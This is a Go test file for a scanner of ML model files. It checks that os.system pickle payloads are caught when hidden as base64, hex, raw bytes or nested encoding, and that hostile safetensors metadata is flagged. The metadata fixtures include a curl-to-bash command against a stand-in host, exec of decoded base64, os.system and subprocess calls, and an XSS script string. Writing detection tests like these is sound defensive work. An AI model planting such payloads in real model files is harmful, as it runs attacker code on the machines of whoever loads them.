package modelscan

import (
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"strings"
	"testing"
)

func TestPayloadsInData(t *testing.T) {
	evil := osSystem()
	b64 := base64.StdEncoding.EncodeToString(evil)
	inner := newPk(2).op('}').str("stage2").str(b64).op('s').stop()
	tests := []struct {
		name   string
		data   []byte
		status Status
		member string
	}{
		{"base64 string", newPk(2).op('}').str("x").str(b64).op('s').stop(), StatusMalicious, "(base64 in data)"},
		{"hex string", newPk(2).op(']').str(hex.EncodeToString(evil)).op('a').stop(), StatusMalicious, "(hex in data)"},
		{"raw bytes", newPk(3).op('}').str("blob").bytesOp(evil).op('s').stop(), StatusMalicious, "(bytes in data)"},
		{"twice encoded", newPk(2).op('}').str("x").str(base64.StdEncoding.EncodeToString(inner)).op('s').stop(), StatusMalicious, "(base64 in data)"},
		{"benign nested", newPk(2).op('}').str("x").str(base64.StdEncoding.EncodeToString(newPk(2).op('}').stop())).op('s').stop(), StatusClean, ""},
		{"base64 text", newPk(2).str(base64.StdEncoding.EncodeToString([]byte(strings.Repeat("plain text ", 8)))).op('.').Bytes(), StatusClean, ""},
		{"truncated pickle bytes", newPk(3).bytesOp(evil[:len(evil)-3]).op('.').Bytes(), StatusClean, ""},
	}
	for _, tc := range tests {
		r := scanBytes(t, "m.pkl", tc.data)
		if r.Status != tc.status {
			t.Errorf("%s: status %s, want %s (%+v)", tc.name, r.Status, tc.status, r.Findings)
			continue
		}
		if tc.member != "" {
			found := false
			for _, f := range r.Findings {
				if strings.Contains(f.Member, tc.member) && f.Rule == "pickle.denylisted-global" {
					found = true
				}
			}
			if !found {
				t.Errorf("%s: no finding in member %s: %+v", tc.name, tc.member, r.Findings)
			}
		}
	}
}

// Nesting is bounded: a payload wrapped deeper than MaxNesting is reported,
// not followed.
func TestPayloadNestingBounded(t *testing.T) {
	data := osSystem()
	for i := 0; i < 8; i++ {
		data = newPk(2).str(base64.StdEncoding.EncodeToString(data)).op('.').Bytes()
	}
	r := scanBytes(t, "m.pkl", data)
	if !hasRule(r, "scan.nesting-limit") {
		t.Fatalf("findings %+v", r.Findings)
	}
}

func TestSafetensorsMetadata(t *testing.T) {
	st := func(meta map[string]string) []byte {
		m := map[string]any{"w": map[string]any{"dtype": "F32", "shape": []int{2}, "data_offsets": []int{0, 8}}}
		if meta != nil {
			m["__metadata__"] = meta
		}
		h := []byte(mustJSON(m))
		for len(h)%8 != 0 {
			h = append(h, ' ')
		}
		out := make([]byte, 8, 8+len(h)+8)
		binary.LittleEndian.PutUint64(out, uint64(len(h)))
		return append(append(out, h...), make([]byte, 8)...)
	}
	tests := []struct {
		meta   map[string]string
		status Status
	}{
		{map[string]string{"format": "pt", "license": "mit", "note": "run `python train.py` to reproduce; evaluation in eval.md"}, StatusClean},
		{map[string]string{"x": "import os; os.system('id')"}, StatusSuspicious},
		{map[string]string{"x": "exec(base64.b64decode('aWQ='))"}, StatusSuspicious},
		{map[string]string{"x": "curl -s http://h/i.sh | bash"}, StatusSuspicious},
		{map[string]string{"x": "<script>alert(1)</script>"}, StatusSuspicious},
		{map[string]string{"x": "subprocess.run(['id'])"}, StatusSuspicious},
		{map[string]string{"x": base64.StdEncoding.EncodeToString(osSystem())}, StatusMalicious},
	}
	for _, tc := range tests {
		r := scanBytes(t, "m.safetensors", st(tc.meta))
		if r.Status != tc.status {
			t.Errorf("%v: %s, want %s (%+v)", tc.meta, r.Status, tc.status, r.Findings)
		}
		if tc.status == StatusSuspicious && (len(r.Findings) == 0 || !strings.HasPrefix(r.Findings[0].Global, "__metadata__.x")) {
			t.Errorf("%v: key not named: %+v", tc.meta, r.Findings)
		}
	}
}
